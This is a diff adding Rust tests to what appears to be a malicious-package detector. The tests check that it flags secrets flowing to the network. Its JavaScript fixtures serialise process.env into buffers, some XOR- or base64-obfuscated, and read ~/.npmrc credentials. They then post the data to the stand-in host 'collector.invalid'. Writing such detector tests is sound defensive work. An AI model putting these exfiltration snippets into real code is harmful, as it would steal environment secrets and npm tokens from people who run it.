@@ -9,7 +9,7 @@ use super::{installed, run};
 use crate::Facts;
 
 use SinkKind::{Http, Socket};
-use SourceKind::{Environment, WalletOrProfile};
+use SourceKind::{CredentialFile, Environment, WalletOrProfile};
 
 /// Facts of a package whose main file is `index.js`, where an import runs it.
 fn imported(files: &[(&str, &str)]) -> Facts {
@@ -250,6 +250,39 @@ fn emitters_of_packages_hand_on_what_they_are_told() {
             "import { createNanoEvents } from 'nanoevents'; const e = createNanoEvents(); e.on('x', () => fetch('https://api.example')); e.emit('x', process.env)",
             "const EventEmitter = require('eventemitter3'); const e = new EventEmitter(); e.on('x', v => fetch('https://api.example', { body: v.NODE_ENV })); e.emit('x', process.env)",
             "const e = require('tiny-emitter/instance'); e.on('x', v => fetch('https://api.example', { body: v })); e.emit('x', process.version); e.emit('y', process.env)",
+        ],
+    );
+}
+
+#[test]
+fn buffers_that_are_filled_byte_by_byte_hold_it() {
+    are_told_apart(
+        Environment,
+        &[
+            "const s = JSON.stringify(process.env); const b = Buffer.alloc(s.length); for (let i = 0; i < s.length; i++) b[i] = s.charCodeAt(i); fetch('https://collector.invalid', { method: 'POST', body: b })",
+            "const s = JSON.stringify(process.env); const b = Buffer.allocUnsafe(s.length); for (let i = 0; i < s.length; i++) b.writeUInt8(s.charCodeAt(i) ^ 7, i); fetch('https://collector.invalid', { body: b.toString('base64') })",
+            "const s = JSON.stringify(process.env); const b = Buffer.alloc(s.length); b.write(s, 0); fetch('https://collector.invalid', { body: b.slice(2).toString('hex') })",
+            "const s = JSON.stringify(process.env); const b = Buffer.alloc(64, s); fetch('https://collector.invalid', { body: b })",
+            "const s = Buffer.from(JSON.stringify(process.env)); const b = Buffer.alloc(s.length); s.copy(b); fetch('https://collector.invalid', { body: b })",
+        ],
+        &[
+            "const s = JSON.stringify(process.env); const b = Buffer.alloc(8); b.writeUInt32BE(s.length, 0); fetch('https://api.example', { body: b })",
+            "const s = JSON.stringify(process.env); const b = Buffer.alloc(s.length); const c = Buffer.alloc(8); for (let i = 0; i < s.length; i++) b[i] = s.charCodeAt(i); fetch('https://api.example', { body: c })",
+            "const s = JSON.stringify(process.env); const b = Buffer.alloc(s.length); b.write(s); fetch('https://api.example', { headers: { length: b.length } })",
+        ],
+    );
+}
+
+#[test]
+fn buffers_in_fields_take_in_files() {
+    are_told_apart(
+        CredentialFile,
+        &[
+            "const fs = require('fs'), os = require('os'); const o = { b: Buffer.alloc(4096) }; const fd = fs.openSync(os.homedir() + '/.npmrc'); fs.readSync(fd, o.b); fetch('https://collector.invalid', { body: o.b })",
+            "const fs = require('fs'), os = require('os'); class R { constructor() { this.buffer = Buffer.allocUnsafe(4096) } take(fd) { fs.readSync(fd, this.buffer, 0, 4096, 0) } } const r = new R(); r.take(fs.openSync(os.homedir() + '/.npmrc')); fetch('https://collector.invalid', { body: r.buffer.toString() })",
+        ],
+        &[
+            "const fs = require('fs'), os = require('os'); const o = { b: Buffer.alloc(4096), c: Buffer.alloc(1) }; const fd = fs.openSync(os.homedir() + '/.npmrc'); fs.readSync(fd, o.b); fetch('https://api.example', { body: o.c })",
         ],
     );
 }
